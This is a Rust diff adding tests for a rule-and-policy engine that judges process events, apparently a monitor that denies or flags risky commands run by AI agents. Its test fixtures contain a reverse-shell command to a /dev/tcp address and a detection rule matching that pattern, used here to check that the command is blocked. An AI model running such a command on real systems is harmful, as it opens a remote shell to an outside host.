@@ -273,3 +273,71 @@ pub(crate) fn load_rules(path: &Path, policy: &PolicyFile, agent: Option<&str>) 
     let rules: Box<dyn Judge> = Box::new(for_agents(set, Some(policy), agent));
     Ok(Pipeline::inline(vec![rules], BUDGET, DefaultAction::Allow)?)
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::cli::{Cli, Command};
+    use clap::Parser as _;
+    use std::fs;
+
+    const RULES: &str = "\
+version: 1
+rules:
+  - { id: tcp, description: d, reason: A shell on the network., severity: critical, kinds: [exec], action: deny, tags: [T1059],
+      condition: process.cmdline.contains('/dev/tcp/') }
+  - { id: sh, description: a shell, severity: low, kinds: [exec], action: alert, condition: basename(process.exe) == 'sh' }
+";
+    const POLICY: &str = "version: 1\nagents:\n  a:\n    exec: { deny: [\"/bin/dd\"] }\n    rules: [sh]\n";
+    const EVENTS: &str = r#"{"kind":"exec","process":{"args":["sh","-c","sh -i >& /dev/tcp/10.0.0.1/1"]}}
+{"id":"B","kind":"exec","agent":"a","process":{"exe":"/bin/sh","args":["sh","-c","sh -i >& /dev/tcp/10.0.0.1/1"]}}
+{"id":"C","kind":"exec","agent":"a","process":{"exe":"/bin/dd"},"exec":{"path":"/bin/dd"}}
+{"id":"D","kind":"lost","lost":{"count":1,"reason":"full"}}
+"#;
+
+    fn run_line(dir: &Path, line: &str) -> (bool, String) {
+        for (name, text) in [("r.yaml", RULES), ("p.yaml", POLICY), ("e.jsonl", EVENTS), ("c.yaml", "{}")] {
+            fs::write(dir.join(name), text).unwrap();
+        }
+        let line = format!("lictor judge {line}").replace("DIR", &dir.display().to_string());
+        let Command::Judge(args) = Cli::try_parse_from(line.split(' ')).unwrap().command else { panic!("{line}") };
+        let context = Context::new(None, Some(dir.join("c.yaml"))).unwrap();
+        let mut code = ExitCode::FAILURE;
+        let text = output::plain(|out| code = run(&args, &context, out).unwrap());
+        (code == ExitCode::SUCCESS, text.replace(&dir.display().to_string(), "DIR"))
+    }
+
+    #[test]
+    fn each_event_is_judged_by_rules() {
+        let dir = tempfile::tempdir().unwrap();
+        let (ok, text) = run_line(dir.path(), "--rules DIR/r.yaml --events DIR/e.jsonl");
+        assert!(ok);
+        let words: Vec<Vec<&str>> = text.lines().map(|line| line.split_whitespace().collect()).collect();
+        assert_eq!(words[0], ["EVENT", "VERDICT", "TIER", "RULE", "SCORE", "OBJECT", "PARTS"]);
+        assert_eq!(words[1][..7], ["line", "1", "deny", "rules", "tcp", "-", "sh"]);
+        assert_eq!(words[3][..4], ["C", "allow", "rules", "-"]);
+        assert_eq!(words[4][..3], ["D", "-", "-"]);
+        let (_, json) = run_line(dir.path(), "--rules DIR/r.yaml --events DIR/e.jsonl --json");
+        let lines: Vec<serde_json::Value> = json.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
+        assert_eq!((&lines[0]["event"], &lines[1]["event"]), (&1.into(), &"B".into()));
+        let verdict = &lines[0]["verdict"];
+        assert_eq!(
+            (&verdict["action"], &verdict["tier"], &verdict["rule"]),
+            (&"deny".into(), &"rules".into(), &"tcp".into())
+        );
+        assert_eq!((&verdict["source"], &verdict["severity"]), (&"DIR/r.yaml:3:5".into(), &"critical".into()));
+        assert_eq!((&verdict["reason"], &verdict["also"][0]), (&"A shell on the network.".into(), &"sh".into()));
+        assert!(lines[0].get("classifier").is_none() && lines[3]["verdict"].is_null());
+    }
+
+    #[test]
+    fn a_policy_comes_first_and_names_the_rules() {
+        let dir = tempfile::tempdir().unwrap();
+        let (_, json) = run_line(dir.path(), "--policy DIR/p.yaml --rules DIR/r.yaml --events DIR/e.jsonl --json");
+        let lines: Vec<serde_json::Value> = json.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
+        let said: Vec<_> = lines.iter().map(|line| (&line["verdict"]["action"], &line["verdict"]["rule"])).collect();
+        assert_eq!(said[1], (&"alert".into(), &"sh".into()), "the policy leaves `tcp` out");
+        assert_eq!(said[2], (&"deny".into(), &"a.exec.deny[0]".into()));
+        assert_eq!(lines[2]["verdict"]["tier"], "policy");
+    }
+}
